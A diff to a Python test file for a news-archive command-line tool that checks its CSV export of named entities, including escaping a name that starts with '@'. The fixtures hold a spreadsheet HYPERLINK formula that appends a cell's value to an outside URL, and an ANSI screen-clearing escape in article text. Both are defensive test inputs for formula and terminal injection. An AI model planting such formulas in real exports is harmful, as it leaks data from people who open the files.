@@ -16,7 +16,8 @@ FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'
 @pytest.fixture(scope="module")
 def lake(tmp_path_factory):
     made = WrittenLake(tmp_path_factory.mktemp("lakes") / "lake")
-    made.article("ferry", story="st-aa11", headline=FORMULA, byline=["Anna Neri", "Li, Wei"])
+    captain = ("person:jose-altavilla", "@José Altavilla", [])
+    made.article("ferry", story="st-aa11", headline=FORMULA, byline=["Anna Neri", "Li, Wei"], names=[captain])
     made.article("traghetto", story="st-aa11", hours=1, language="it", text='Traghetto, "fermo"\n\nin porto;\x1b[2J')
     made.article("copy", story="st-aa11", hours=2, relation="duplicate", related_to=id_of("ferry"), similarity=1.0)
     made.article("copy", story="st-aa11", hours=2, relation="duplicate", revision=2, text="A corrected copy.")
@@ -117,6 +118,14 @@ def test_stories_are_had_as_csv(command):
     first, second = csv_of(command("stories", "--csv"))
     assert (first["story_id"], first["article_count"], second["story_id"]) == ("st-bb22", "60", "st-aa11")
     assert json.loads(second["languages"]) == ["en", "it"]
+
+
+def test_names_are_had_as_csv(command):
+    (captain,) = csv_of(command("entities", "--csv"))
+    assert (captain["entity_id"], captain["name"]) == ("person:jose-altavilla", "'@José Altavilla")
+    assert (captain["articles"], captain["first_published_at"]) == ("1", "2025-03-04T12:00:00+00:00")
+    status, _, err = command("entities", "--csv", "--json")
+    assert (status, err) == (2, "babelwire: Give only one of --table, --json and --csv.\n")
 
 
 def test_nothing_found_is_a_sentence_in_a_table_and_no_row_for_programs(command):
